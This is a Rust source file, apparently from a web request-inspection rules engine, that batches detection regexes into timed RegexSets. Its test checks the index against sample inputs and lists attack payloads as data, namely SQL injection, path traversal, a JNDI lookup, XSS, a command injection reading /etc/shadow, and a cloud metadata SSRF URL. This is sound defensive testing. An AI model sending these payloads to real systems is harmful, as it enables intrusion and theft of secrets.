//! The regexes of many rules on one field, evaluated in few passes (issue 22): patterns go into
//! `RegexSet`s of at most [`CHUNK`] patterns; a set that turns out clearly slower than its
//! patterns run one by one (too large for the lazy DFA's cache, it falls back to a slower engine) is split
//! until it is not. The answer is exact either way: which patterns match a value.
//!
//! [`crate::rules::RuleSet`] rewrites the rules' regex items to read these answers through the
//! derived fields `tv.re.<field>` of [`crate::view::SpanView`].

use std::time::{Duration, Instant};

use regex::{Regex, RegexSet};

/// Most patterns in one set.
pub const CHUNK: usize = 24;

/// Text the sets are timed on when they are built: ordinary request inputs, the common case.
const PROBES: &[&str] = &[
    "/api/orders/104233",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36",
    "page=2&sort=created_at&q=blue shoes",
    "{\"name\":\"Jane\",\"items\":[1,2,3]}",
];

struct Chunk {
    /// Index of the chunk's first pattern.
    first: usize,
    set: RegexSet,
}

pub struct RegexIndex {
    chunks: Vec<Chunk>,
    len: usize,
}

/// The time of `f` once its caches are warm (the lazy DFA builds its states on first use).
fn time(f: impl Fn()) -> Duration {
    for _ in 0..3 {
        f();
    }
    let t = Instant::now();
    for _ in 0..5 {
        f();
    }
    t.elapsed()
}

impl RegexIndex {
    /// An index over `patterns` (each in the `regex` crate's syntax, flags inline).
    pub fn new(patterns: &[String]) -> Result<Self, regex::Error> {
        let mut chunks = Vec::new();
        let mut first = 0;
        for group in patterns.chunks(CHUNK) {
            split(group, first, &mut chunks)?;
            first += group.len();
        }
        Ok(RegexIndex {
            chunks,
            len: patterns.len(),
        })
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Adds to `out` the index of every pattern that matches `value`.
    pub fn matches(&self, value: &str, out: &mut Vec<usize>) {
        for c in &self.chunks {
            // Most values match nothing: a search that may stop early first, then the
            // overlapping one that names every pattern.
            if c.set.is_match(value) {
                out.extend(c.set.matches(value).iter().map(|i| c.first + i));
            }
        }
    }
}

/// Sets for `group` (patterns `first..`), halved while a set is clearly slower on the probes
/// than its patterns one by one.
fn split(group: &[String], first: usize, out: &mut Vec<Chunk>) -> Result<(), regex::Error> {
    let set = RegexSet::new(group)?;
    if group.len() > 1 {
        let singles: Vec<Regex> = group
            .iter()
            .map(|p| Regex::new(p))
            .collect::<Result<_, _>>()?;
        let as_set = time(|| {
            for p in PROBES {
                std::hint::black_box(set.is_match(p));
            }
        });
        let one_by_one = time(|| {
            for p in PROBES {
                for r in &singles {
                    std::hint::black_box(r.is_match(p));
                }
            }
        });
        // Only a set that is clearly slower is split: the slow fallback costs tens of times more.
        if as_set > one_by_one * 2 {
            let (a, b) = group.split_at(group.len() / 2);
            split(a, first, out)?;
            return split(b, first + a.len(), out);
        }
    }
    out.push(Chunk { first, set });
    Ok(())
}

/// One index per field the rules' regexes read.
#[derive(Default)]
pub struct Indexes(std::collections::BTreeMap<String, RegexIndex>);

impl Indexes {
    /// Indexes over `patterns` (by field). Patterns were checked to compile when registered.
    pub fn new(patterns: &std::collections::BTreeMap<String, Vec<String>>) -> Self {
        Indexes(
            patterns
                .iter()
                .map(|(f, p)| {
                    (
                        f.clone(),
                        RegexIndex::new(p).expect("patterns compiled when registered"),
                    )
                })
                .collect(),
        )
    }

    pub fn get(&self, field: &str) -> Option<&RegexIndex> {
        self.0.get(field)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn builtin_patterns() -> Vec<String> {
        let mut out = Vec::new();
        for (_, text) in crate::rules::BUILTIN {
            for line in text.lines() {
                let t = line.trim_start();
                if let Some(p) = t.strip_prefix("- '").and_then(|p| p.strip_suffix('\'')) {
                    let p = p.replace("''", "'");
                    if Regex::new(&p).is_ok() {
                        out.push(p);
                    }
                }
            }
        }
        out
    }

    #[test]
    fn the_index_answers_what_each_pattern_answers() {
        let patterns = builtin_patterns();
        assert!(patterns.len() > 100, "{}", patterns.len());
        let index = RegexIndex::new(&patterns).unwrap();
        let singles: Vec<Regex> = patterns.iter().map(|p| Regex::new(p).unwrap()).collect();
        let inputs = [
            "/api/orders/1",
            "' OR 1=1 --",
            "../../etc/passwd",
            "${jndi:ldap://x.example/a}",
            "<script>alert(1)</script>",
            "; cat /etc/shadow",
            "{{7*7}}",
            "http://169.254.169.254/latest/meta-data/",
            "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 Safari/537.36",
            "",
            "é ü 漢字 \u{0}",
        ];
        for v in inputs {
            let mut got = Vec::new();
            index.matches(v, &mut got);
            got.sort_unstable();
            let want: Vec<usize> = (0..singles.len())
                .filter(|&i| singles[i].is_match(v))
                .collect();
            assert_eq!(got, want, "{v:?}");
        }
    }
}
